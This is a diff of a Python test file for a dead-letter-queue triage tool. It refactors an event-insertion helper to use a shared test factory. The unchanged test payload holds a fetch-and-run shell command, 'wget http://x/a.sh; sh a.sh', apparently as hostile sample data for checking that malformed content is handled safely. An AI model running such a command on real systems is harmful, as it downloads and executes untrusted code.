@@ -15,6 +15,7 @@ from sqlalchemy import Engine, text
 
 from dlq_tui.db import triage
 from dlq_tui.db.triage import ActionRefused, Operator
+from tests.factories import add_bare_events
 
 PAYLOAD = '{"malformed_content": "wget http://x/a.sh; sh a.sh", "original_offset": 7}'
 
@@ -23,15 +24,7 @@ PAYLOAD = '{"malformed_content": "wget http://x/a.sh; sh a.sh", "original_offset
 
 
 def add_events(engine: Engine, n: int = 1, payload: str = PAYLOAD, **cols: Any) -> list[int]:
-    """Insert n events; extra columns are set with raw SQL values (e.g. resolved=True)."""
-    names = ["reason", "payload", *cols]
-    values = ["'json_parsing_failed'", "CAST(:payload AS json)", *(f":{c}" for c in cols)]
-    sql = (
-        f"INSERT INTO dead_letter_events ({', '.join(names)}) SELECT {', '.join(values)}"
-        " FROM generate_series(1, :n) RETURNING id"
-    )
-    with engine.begin() as conn:
-        return sorted(conn.execute(text(sql), {"payload": payload, "n": n, **cols}).scalars())
+    return add_bare_events(engine, n, reason="json_parsing_failed", payload=payload, **cols)
 
 
 def raw_update(engine: Engine, ids: list[int], assignments: str, **params: Any) -> None:
